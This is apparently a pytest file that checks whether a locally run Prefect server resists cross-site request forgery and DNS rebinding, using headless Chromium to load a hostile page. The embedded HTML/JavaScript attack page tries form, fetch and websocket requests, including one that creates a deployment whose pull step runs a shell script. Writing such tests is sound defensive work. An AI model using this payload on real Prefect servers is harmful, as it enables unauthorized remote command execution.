"""A real browser: pages of other sites get nothing from a real server, its own pages everything."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue
from urllib.parse import urlsplit

import httpx
import pytest

from flows.server.lifecycle import address_of

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
# What a page may try: send without reading, send and read, read, a form, a socket, a frame.
ATTACK = """\
<!DOCTYPE html><iframe name="hidden" src="{server}/api/health"></iframe>
<form method="post" action="{server}/api/flows/" enctype="text/plain" target="hidden">
<input name='{{"name": "owned-by-form", "x": "' value='"}}'></form><script>
const owned = (name) => new Blob([JSON.stringify({{name}})])
const tried = (what) => what().catch(() => "failed")
const socket = (path) => new Promise((resolve) => {{
  const one = new WebSocket("{server}".replace("http", "ws") + path)
  one.onopen = () => resolve("open"); one.onerror = () => resolve("failed") }})
onload = async () => {{
  const found = {{
    sent: await tried(() => fetch("{server}/api/flows/",
      {{method: "POST", mode: "no-cors", body: owned("owned-blindly")}}).then((r) => r.type)),
    deployed: await tried(() => fetch("{server}/api/deployments/", {{method: "POST",
      mode: "no-cors", body: new Blob([JSON.stringify({{name: "owned", flow_id: "{flow}",
      pull_steps: [{{"prefect.deployments.steps.run_shell_script": {{script: "touch owned"}}}}]}})])
      }}).then((r) => r.type)),
    read: await tried(() => fetch("{server}/api/flows/",
      {{method: "POST", body: owned("owned-and-read")}}).then((r) => r.text())),
    preflight: await tried(() => fetch("{server}/api/flows/", {{method: "POST",
      headers: {{"Content-Type": "application/json"}}, body: '{{"name": "owned-by-preflight"}}'}})
      .then((r) => r.text())),
    get: await tried(() => fetch("{server}/api/health").then((r) => r.text())),
    logs: await socket("/api/logs/out"), events: await socket("/api/events/in")}}
  document.forms[0].submit()
  await new Promise((resolve) => setTimeout(resolve, 1000))
  await fetch("/found", {{method: "POST", body: JSON.stringify(found)}})
}}</script>
"""

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        CHROMIUM is None, reason="no chromium on the PATH (Debian: apt-get install chromium)"
    ),
]


@pytest.fixture
def server(prefect_home: Path) -> str:
    """The session's Prefect server, such as http://127.0.0.1:4200."""
    return address_of(prefect_home / "prefect").removesuffix("/api")


@dataclass
class Elsewhere:
    """A site on another port of this machine, with one page that attacks the server."""

    address: str
    found: Queue[dict[str, str]]  # what the page has got, by what it tried


@pytest.fixture
def elsewhere(server: str) -> Iterator[Elsewhere]:
    flow = httpx.post(f"{server}/api/flows/", json={"name": "theirs"}, timeout=30).json()["id"]

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(ATTACK.format(server=server, flow=flow).encode())

        def do_POST(self) -> None:
            found.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *arguments: object) -> None:
            pass

    found: Queue[dict[str, str]] = Queue()
    own = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=own.serve_forever, daemon=True).start()
    yield Elsewhere(f"http://127.0.0.1:{own.server_port}/", found)
    own.shutdown()
    own.server_close()


def chromium(folder: Path, *options: str) -> list[str]:
    return [
        CHROMIUM,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--user-data-dir={folder}",
        *options,
    ]


def seen(folder: Path, address: str, *options: str) -> str:
    """The page's DOM when its scripts have come to rest."""
    done = subprocess.run(
        chromium(folder, "--virtual-time-budget=15000", *options, "--dump-dom", address),
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    return done.stdout


def names(server: str, kind: str) -> set[str]:
    found = httpx.post(f"{server}/api/{kind}/filter", json={}, timeout=30)
    return {one["name"] for one in found.json()}


@pytest.mark.parametrize("name", ["another port", "a rebound name"])
def test_a_page_of_another_site_gets_nothing(
    name: str, server: str, elsewhere: Elsewhere, tmp_path: Path
) -> None:
    rules, page = "--host-resolver-rules=MAP evil.example 127.0.0.1", elsewhere.address
    if name == "a rebound name":  # the page itself is then of the server's port, by the other name
        rebound = f"http://evil.example:{urlsplit(server).port}/"
        assert "refused" in seen(tmp_path / "rebound", rebound, rules)
        page = page.replace("127.0.0.1", "evil.example")
    options = (rules, "--remote-debugging-port=0", page)  # so that it stays until it is killed
    browser = subprocess.Popen(
        chromium(tmp_path / "page", *options), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        found = elsewhere.found.get(timeout=120)
    finally:
        browser.kill()
        browser.wait()
    assert found == {
        "sent": "opaque",
        "deployed": "opaque",
        "read": "failed",
        "preflight": "failed",
        "get": "failed",
        "logs": "failed",
        "events": "failed",
    }
    assert not {one for one in names(server, "flows") if one.startswith("owned")}
    assert "owned" not in names(server, "deployments")


def test_the_attack_works_where_nobody_refuses_it(server: str) -> None:
    """The very bytes, sent by a client of this machine, which may: so the page's failed for where
    it came from. No setting of a pool stops the second one; the guard and the password do."""
    flow = httpx.post(f"{server}/api/flows/", content=b'{"name": "by a client"}', timeout=30)
    assert "content-type" not in flow.request.headers  # as a Blob is sent
    assert flow.status_code in (200, 201) and "by a client" in names(server, "flows")
    steps = [{"prefect.deployments.steps.run_shell_script": {"script": "touch owned"}}]
    made = httpx.post(
        f"{server}/api/deployments/",
        timeout=30,
        content=json.dumps(
            {"name": "by a client", "flow_id": flow.json()["id"], "pull_steps": steps}
        ),
    )
    assert made.status_code in (200, 201) and made.json()["pull_steps"] == steps
    httpx.delete(f"{server}/api/deployments/{made.json()['id']}", timeout=30).raise_for_status()


@pytest.mark.parametrize("host", ["127.0.0.1", pytest.param("localhost", marks=pytest.mark.long)])
@pytest.mark.parametrize("path", [pytest.param("/flows", marks=pytest.mark.long), "/v2/flows"])
def test_both_pages_work_by_either_name(host: str, path: str, server: str, tmp_path: Path) -> None:
    httpx.post(f"{server}/api/flows/", json={"name": "seen-in-a-browser"}, timeout=30)
    page = f"http://{host}:{urlsplit(server).port}{path}"
    assert "seen-in-a-browser" in seen(tmp_path, page)
